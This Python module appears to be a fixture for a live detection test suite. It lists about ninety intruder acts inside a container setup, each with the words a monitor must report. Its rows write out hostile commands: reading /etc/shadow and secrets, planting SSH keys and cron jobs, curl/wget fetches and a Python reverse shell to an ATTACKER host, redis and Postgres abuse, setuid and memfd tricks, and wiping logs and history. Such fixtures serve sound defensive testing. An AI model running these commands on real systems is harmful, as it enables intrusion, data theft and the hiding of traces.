"""Single acts, each done by the programs and shells of the mix: what somebody inside might do first, or last.

`by` says through which hole: "shell" (a line in the job queue: the shell itself, and the tools its jobs use), "worker"
(Python that the application runs), "web" (a request that nginx's mistakes let through). `words`: one of them must be in
what is told: a path, a program, an address or a call. `listed`: the danger list names it; the others must be told
because they were never done here.
"""

# ruff: noqa: E501  tables: one row is one line

from typing import NamedTuple

from tests.live.names import ATTACKER, METADATA, PARTNERS


class Act(NamedTuple):
    name: str
    by: str
    do: str
    words: tuple[str, ...]
    listed: bool = False
    put: tuple[str, str] | None = None
    """A file of the mix that is copied first, from outside, to where uploads lie: as an upload would have come."""


def call(number: int, *arguments: object) -> str:
    """Python that makes a system call by its number, by libc."""
    return f"import ctypes; l = ctypes.CDLL(None, use_errno=True); r = l.syscall({', '.join(map(str, (number, *arguments)))}); out = (r, ctypes.get_errno())"


ACTS: tuple[Act, ...] = (
    # secrets, and what else nobody reads here
    Act("shadow read by cat", "shell", "cat /etc/shadow", ("/etc/shadow",)),
    Act("shadow packed by gzip", "shell", "gzip -c /etc/shadow >/data/archive/a.gz", ("/etc/shadow",)),
    Act("another secret read by the worker", "worker", "out = open('/run/secrets/payment').read()", ("/run/secrets/payment",)),
    Act("accounts cut by a job's tool", "shell", "cut -d: -f1 /etc/passwd", ("/etc/passwd",)),
    Act("environment of the first process", "worker", "out = open('/proc/1/environ').read()", ("/proc/1/environ",)),
    Act("web server's key read by head", "shell", "head -c 100 /etc/nginx/tls/site.key", ("/etc/nginx/tls/site.key",)),
    Act("root's notes read by awk", "shell", "awk '{print}' /root/notes.txt", ("/root/notes.txt",)),
    Act("customers by a path mistake of nginx", "web", "GET /files../private/customers.csv", ("/data/private/customers.csv",)),
    Act("symlink swap", "worker", "os.symlink('/run/secrets/payment', '/data/.latest-00ab12'); os.replace('/data/.latest-00ab12', '/data/latest')", ("/run/secrets/payment",)),
    Act("link to the configuration, followed by nginx", "worker", "os.symlink('/app/settings.json', '/data/uploads/cat.jpg'); import http.client; c = http.client.HTTPConnection('127.0.0.1', 8080); c.request('GET', '/files/cat.jpg'); out = c.getresponse().read()", ("/app/settings.json", "cat.jpg")),
    Act("hard link of the passwords", "worker", "os.link('/etc/shadow', '/data/uploads/x.txt')", ("/etc/shadow",)),
    Act("database's file copied", "shell", "cp /var/lib/postgresql/data/global/pg_control /data/archive/c", ("/var/lib/postgresql/data/global/pg_control",)),
    Act("database reads a file for somebody", "worker", "out = pg(\"select pg_read_file('/etc/passwd')\")", ("/etc/passwd",)),
    Act("database reads another's configuration", "worker", "out = pg(\"select pg_read_file('/etc/nginx/nginx.conf')\")", ("/etc/nginx/nginx.conf",)),
    Act("application searched for passwords", "shell", "grep -rn password /app", ("/app",)),
    Act("home packed", "shell", "tar -cf /data/archive/h.tar /root", ("/root",)),
    Act("programs with set-user-id searched", "shell", "find / -xdev -perm -4000 -type f", ("-perm", "find")),
    Act("home listed", "shell", "ls -la /root", ("/root",)),
    # start-up files, code, configuration
    Act("start-up file", "shell", "echo export A=1 >/etc/profile.d/lang.sh", ("/etc/profile.d/lang.sh",)),
    Act("shell start file", "worker", "open('/home/app/.profile', 'a').write('x=1')", ("/home/app/.profile",)),
    Act("python start file", "worker", "os.makedirs('/home/app/.local/lib/python3.11/site-packages'); open('/home/app/.local/lib/python3.11/site-packages/x.pth', 'w').write('import os')", ("x.pth",)),
    Act("timetable entry", "shell", "echo '* * * * * root id' >/etc/cron.d/sync", ("/etc/cron.d/sync",), True),
    Act("login key", "shell", "mkdir -p /root/.ssh; echo ssh-ed25519 AAAA >>/root/.ssh/authorized_keys", ("authorized_keys",), True),
    Act("job script changed", "shell", "echo '# x' >>/app/daily.sh", ("/app/daily.sh",)),
    Act("entry script changed by sed", "shell", "sed -i 's/0.3/0.4/' /entry.sh", ("/entry.sh",)),
    Act("web server's configuration changed by sed", "shell", "sed -i 's/512/513/' /etc/nginx/nginx.conf", ("/etc/nginx/nginx.conf",)),
    Act("page changed by the shell", "shell", "echo '<script src=//x>' >>/srv/www/page3.html", ("/srv/www/page3.html",)),
    Act("names changed", "shell", f"echo '{ATTACKER} mirror.example' >>/etc/hosts", ("/etc/hosts",)),
    Act("program replaced by mv", "shell", "cp /usr/bin/tr /tmp/tr2; mv /tmp/tr2 /usr/bin/tr", ("/usr/bin/tr",)),
    Act("web shell among uploads", "worker", "open('/data/uploads/img.php', 'w').write('<?php')", ("/data/uploads/img.php",)),
    Act("web shell by upload over WebDAV", "web", "PUT /documents/7/x.php", ("x.php",)),
    Act("library dropped by redis", "worker", "redis('CONFIG', 'SET', 'dir', '/tmp'); redis('CONFIG', 'SET', 'dbfilename', 'm.so'); out = redis('SAVE'); redis('CONFIG', 'SET', 'dir', '/var/lib/redis'); redis('CONFIG', 'SET', 'dbfilename', 'dump.rdb')", ("/tmp/m.so",)),
    Act("file written by the database", "worker", "out = pg(\"copy (select 1) to '/tmp/pg.out'\")", ("/tmp/pg.out",)),
    Act("hidden folder", "shell", "mkdir /opt/.cache", ("/opt/.cache",)),
    Act("module loaded by redis", "worker", "out = redis('MODULE', 'LOAD', '/data/uploads/m.jpg')", ("/data/uploads/m.jpg",), False, ("/usr/lib/x86_64-linux-gnu/libz.so.1", "/data/uploads/m.jpg")),
    Act("library from an upload in a job's tool", "shell", "LD_PRELOAD=/data/uploads/p.jpg date +%s", ("/data/uploads/p.jpg",), False, ("/usr/lib/x86_64-linux-gnu/libz.so.1", "/data/uploads/p.jpg")),
    Act("folder that nobody reads, by the worker", "worker", "out = open('/data/private/customers.csv').read()", ("/data/private/customers.csv",)),
    Act("customers removed by the worker", "worker", "os.unlink('/data/private/customers.csv')", ("/data/private",)),
    # programs
    Act("tool never used: wget", "shell", f"wget -qO /tmp/w http://{ATTACKER}/w", ("wget",)),
    Act("tool never used: perl", "shell", "perl -e 'print 1'", ("perl",)),
    Act("tool never used: bash", "shell", "bash -c 'echo 1'", ("bash",)),
    Act("health check's tool loads a file", "shell", f"curl -so /tmp/c http://{ATTACKER}/c", (ATTACKER, "curl")),
    Act("interpreter with a line of code", "shell", "python3 -c 'import pty'", ("python",)),
    Act("shell of the worker", "worker", "import subprocess; out = subprocess.run(['sh', '-c', 'echo 1'], capture_output=True)", ("dash", "sh ")),
    Act("known tool run by the worker", "worker", "import subprocess; out = subprocess.run(['gzip', '--version'], capture_output=True)", ("gzip",)),
    Act("shell of the database", "worker", "out = pg(\"copy (select 1) to program 'cat >/tmp/p'\")", ("dash", "sh ")),
    Act("database dumped by hand", "shell", "setpriv --reuid postgres --regid postgres --init-groups pg_dump -t users -f /tmp/users.sql postgres", ("pg_dump", "/tmp/users.sql")),
    Act("cache dumped by hand", "shell", "redis-cli --rdb /tmp/all.rdb", ("--rdb", "/tmp/all.rdb")),
    Act("file made executable", "worker", "open('/data/uploads/k.jpg', 'w').write('x'); os.chmod('/data/uploads/k.jpg', 0o755)", ("/data/uploads/k.jpg",)),
    Act("copied program with another name run", "shell", "cp /usr/bin/sort /var/tmp/kworker; /var/tmp/kworker /data/last", ("/var/tmp/kworker",)),
    Act("program without the right to run", "worker", "os.execv('/data/uploads/k.txt', ['k']) if open('/data/uploads/k.txt', 'w') else 0", ("/data/uploads/k.txt",)),
    Act("program run by the loader", "worker", "import subprocess; out = subprocess.run(['/lib64/ld-linux-x86-64.so.2', '/usr/bin/env'], capture_output=True).returncode", ("ld-linux",)),
    Act("deleted program run", "shell", "cp /usr/bin/sleep /tmp/d; exec 9</tmp/d; rm /tmp/d; /proc/self/fd/9 0; exec 9<&-", ("/tmp/d", "/proc/self/fd/9"), True),
    Act("memory file run", "worker", "f = os.memfd_create('x', 0); os.write(f, open('/usr/bin/true', 'rb').read()); p = os.posix_spawn(f'/proc/self/fd/{f}', ['x'], {}); os.waitpid(p, 0)", ("memfd",), True),
    Act("set-user-id", "shell", "cp /usr/bin/cat /tmp/s; chmod 4755 /tmp/s", ("/tmp/s",), True),
    # the network
    Act("new listener", "worker", "S = socket.create_server(('0.0.0.0', 4444)); S.close()", ("4444",)),
    Act("new listener on loopback", "worker", "S = socket.create_server(('127.0.0.1', 9001)); S.close()", ("9001",)),
    Act("new datagram listener", "worker", "S = socket.socket(2, 2); S.bind(('0.0.0.0', 5353)); S.close()", ("5353",)),
    Act("new listener without a path", "worker", "S = socket.socket(1, 1); S.bind(chr(0) + 'dbus-7'); S.listen(); S.close()", ("dbus-7",)),
    Act("database by its socket", "worker", "S = socket.socket(1, 1); S.connect('/run/postgresql/.s.PGSQL.5432'); S.close()", (".s.PGSQL.5432",)),
    Act("new peer", "worker", f"socket.create_connection(('{ATTACKER}', 443), 5).close()", (f"{ATTACKER}:443",)),
    Act("another port of the partner", "worker", f"socket.create_connection(('{PARTNERS[0]}', 22), 5).close()", (f"{PARTNERS[0]}:22",)),
    Act("new datagram peer", "worker", f"socket.socket(2, 2).sendto(b'x', ('{ATTACKER}', 9999))", (f"{ATTACKER}:9999",)),
    Act("replication to a stranger", "worker", f"redis('REPLICAOF', '{ATTACKER}', '6379'); time.sleep(2); out = redis('REPLICAOF', 'NO', 'ONE')", (f"{ATTACKER}:6379",)),
    Act("open proxy of nginx", "web", f"GET /fetch/?host={ATTACKER}:8080", (f"{ATTACKER}:8080",)),
    Act("domain never asked for", "worker", "socket.getaddrinfo('updates.never-asked.example', 443)", ("never-asked.example",)),
    Act("data in a name", "worker", "socket.getaddrinfo('" + "a7" * 22 + ".x.partner.example', 443)", ("a7a7a7a7a7",)),
    Act("metadata asked by the shell's tool", "shell", f"curl -s http://{METADATA}/latest/", (METADATA,), True),
    Act("packet socket", "worker", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)", ("packet",)),
    Act("reverse shell", "worker", f"p = os.fork()\nif p == 0:\n s = socket.create_connection(('{ATTACKER}', 4444), 5)\n for n in (0, 1, 2): os.dup2(s.fileno(), n)\n os.execv('/bin/sh', ['sh', '-c', 'exit'])\nos.waitpid(p, 0)", (f"{ATTACKER}:4444",), True),
    # system calls
    Act("mount refused", "worker", call(165, "b'none'", "b'/mnt'", "b'tmpfs'", 0, 0), ("mount",)),
    Act("namespace by a tool never used", "shell", "unshare -m true", ("unshare",)),
    Act("namespace refused", "worker", call(272, "0x10000000"), ("unshare",)),
    Act("ptrace of the database", "worker", "pid = next(p for p in os.listdir('/proc') if p.isdigit() and open(f'/proc/{p}/comm').read().startswith('redis')); " + call(101, "0x4206", "int(pid)", 0, 0), ("ptrace",)),
    Act("memory of the database", "worker", "pid = next(p for p in os.listdir('/proc') if p.isdigit() and open(f'/proc/{p}/comm').read().startswith('redis')); out = open(f'/proc/{pid}/mem', 'rb')", ("/mem",)),
    Act("rights by an attribute", "worker", "open('/data/uploads/l.jpg', 'w').write('x'); os.setxattr('/data/uploads/l.jpg', 'security.capability', bytes.fromhex('0100000200040000000000000000000000000000'))", ("/data/uploads/l.jpg",)),
    Act("memory file made", "worker", "os.memfd_create('y', 0)", ("memfd_create",)),
    Act("memory that is written and run", "worker", "import mmap; mmap.mmap(-1, 4096, prot=7)", ("mmap",)),
    Act("bpf refused", "worker", "b = bytes(128); " + call(321, 5, "b", 128), ("bpf",)),
    Act("keys asked for", "worker", call(250, 10, -3, "b'user'", "b'x'", 0), ("keyctl",)),
    Act("root directory changed", "worker", call(161, "b'/data'"), ("chroot",)),
    Act("back to root", "worker", "os.setuid(0)", ("setuid",)),
    Act("name of the machine", "worker", call(170, "b'x'", 1), ("sethostname",)),
    Act("clock set back", "shell", "date -s 2020-01-01", ("clock_settime", "date")),
    Act("web server stopped", "shell", "kill -STOP $(cat /run/nginx.pid); sleep 1; kill -CONT $(cat /run/nginx.pid)", ("SIGSTOP",)),
    Act("database killed by the worker", "worker", "pid = next(p for p in os.listdir('/proc') if p.isdigit() and open(f'/proc/{p}/comm').read().startswith('redis')); os.kill(int(pid), 9)", ("kill",)),
    Act("raw disk", "shell", "mknod /tmp/disk b 8 0", ("/tmp/disk",), True),
    # traces removed
    Act("history cleared", "shell", ": >/root/.bash_history", ("/root/.bash_history",)),
    Act("log emptied", "shell", ": >/var/log/nginx/error.log", ("/var/log/nginx/error.log",)),
    Act("log of the jobs removed", "shell", "rm -f /var/log/jobs.log", ("/var/log/jobs.log",)),
    Act("backups removed", "shell", "rm -f /backup/uploads-*", ("/backup/",)),
    Act("clock of a file set back", "shell", "touch -d 2020-01-01 /app/worker.py", ("/app/worker.py",)),
    Act("rights of the application", "shell", "chmod 666 /app/settings.json", ("/app/settings.json",)),
    Act("owner of the configuration", "shell", "chown app /etc/redis/redis.conf", ("/etc/redis/redis.conf",)),
)  # fmt: skip
